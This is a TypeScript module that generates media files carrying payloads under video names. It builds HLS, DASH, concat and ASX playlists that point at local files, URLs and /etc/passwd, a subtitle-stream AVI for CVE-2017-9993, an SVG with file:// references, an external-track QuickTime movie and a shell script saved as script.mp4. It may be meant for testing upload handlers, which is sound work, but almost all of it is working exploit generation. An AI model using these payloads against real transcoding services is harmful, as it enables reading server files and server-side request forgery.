/*
 * Files that name other files, under the names of videos.
 */
import { readFile } from 'node:fs/promises';
import { box, inside, STBL, words } from './mp4.js';

/** A QuickTime alias to an absolute path, as `dref` holds it. */
function alias(path: string): Buffer {
  const name = Buffer.from(path.slice(path.lastIndexOf('/') + 1));
  const record = Buffer.alloc(150);
  record.writeUInt16BE(2, 6);
  // The volume's name and the file's, each in a field of fixed length behind its own.
  record[10] = 1;
  record.write('/', 11);
  record[50] = name.length;
  name.copy(record, 51);
  const tag = Buffer.alloc(4);
  tag.writeUInt16BE(2, 0);
  tag.writeUInt16BE(path.length, 2);
  const end = Buffer.from([0xff, 0xff, 0, 0]);
  return box(
    'alis',
    words([0]),
    record,
    tag,
    Buffer.from(path),
    Buffer.alloc(path.length % 2),
    end,
  );
}

/** A movie whose track says that its samples lie in another file. */
export async function externalTrack(path: string): Promise<Buffer> {
  const file = await readFile(path);
  const table = inside(file, `${STBL.replace('/stbl', '')}/dinf/dref`);
  const entry = alias(path);
  const grown = Buffer.concat([words([0, 1]), entry]);
  const moov = Buffer.from(inside(file, 'moov'));
  const at = moov.indexOf(table);
  const more = grown.length - table.length;
  const longer = Buffer.concat([moov.subarray(0, at), grown, moov.subarray(at + table.length)]);
  // All boxes around it grow with it: those whose beginning lies in front of it and whose end behind.
  const parents = ['trak', 'mdia', 'minf', 'dinf', 'dref'];
  for (const type of parents) {
    const start = longer.lastIndexOf(Buffer.from(type), at) - 4;
    longer.writeUInt32BE(longer.readUInt32BE(start) + more, start);
  }
  return Buffer.concat([box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')), box('moov', longer)]);
}

/** An AVI with a stream of subtitles that are a playlist; this was CVE-2017-9993. */
function subtitledAvi(playlist: string): Buffer {
  const chunk = (type: string, ...parts: Buffer[]) => {
    const body = Buffer.concat(parts);
    const head = Buffer.alloc(8);
    head.write(type, 'latin1');
    head.writeUInt32LE(body.length, 4);
    return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
  };
  const numbers = (...values: number[]) => {
    const bytes = Buffer.alloc(4 * values.length);
    values.forEach((value, i) => bytes.writeUInt32LE(value, 4 * i));
    return bytes;
  };
  const header = chunk('avih', numbers(40_000, 0, 0, 0x10, 1, 0, 1, 0, 64, 64, 0, 0, 0, 0));
  const stream = chunk('strh', Buffer.from('txts\0\0\0\0'), numbers(0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0)); // prettier-ignore
  const format = chunk('strf', numbers(0));
  const head = chunk('LIST', Buffer.from('hdrl'), header, chunk('LIST', Buffer.from('strl'), stream, format)); // prettier-ignore
  const text = Buffer.from(playlist);
  const name = Buffer.alloc(4);
  const length = numbers(text.length);
  const gab2 = Buffer.concat([Buffer.from('GAB2\0'), Buffer.from([2, 0]), numbers(4), name, Buffer.from([4, 0]), length, text]); // prettier-ignore
  const movi = chunk('LIST', Buffer.from('movi'), chunk('00tx', gab2));
  return chunk('RIFF', Buffer.from('AVI '), head, movi);
}

/** Playlists, scripts and references to a local file and to a URL, by the names they hide behind. */
export async function disguises(
  path: string,
  url: string,
): Promise<Record<string, Buffer | string>> {
  const hls = (target: string) =>
    `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n${target}\n#EXT-X-ENDLIST\n`;
  const name = path.slice(path.lastIndexOf('/') + 1);
  const mpd = (target: string) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:full:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>${target}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}"/><image xlink:href="file://${path}"/></svg>`;
  return {
    'hls.mp4': hls(path),
    'hls-relative.mp4': hls(`../${name}`),
    'hls-file.mp4': hls(`file:${path}`),
    'hls-http.mp4': hls(url),
    'hls-passwd.mp4': hls('/etc/passwd'),
    'hls-concat.mkv': hls(`concat:${path}|/etc/passwd`),
    'hls-crypto.mkv': hls(`crypto:${path}`),
    'hls-subfile.mkv': hls(`subfile,,start,0,end,9,,:${path}`),
    'concat.avi': `ffconcat version 1.0\nfile '${path}'\n`,
    'concat-http.avi': `ffconcat version 1.0\nfile '${url}'\n`,
    'dash.mkv': mpd(path),
    'dash-http.mkv': mpd(url),
    'sdp.mp4': 'v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video 5004 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n', // prettier-ignore
    'asx.wmv': `<asx version="3.0"><entry><ref href="${url}"/></entry></asx>`,
    'reference.wmv': `[Reference]\r\nRef1=${url}\r\n`,
    'picture.mp4': svg,
    'subtitles.avi': subtitledAvi(hls(`file://${path}`)),
    'subtitles-http.avi': subtitledAvi(hls(url)),
    'external.mov': await externalTrack(path),
    'script.mp4': '#!/bin/sh\ntouch /tmp/owned\n',
    'images-%03d.mp4': 'no picture',
  };
}
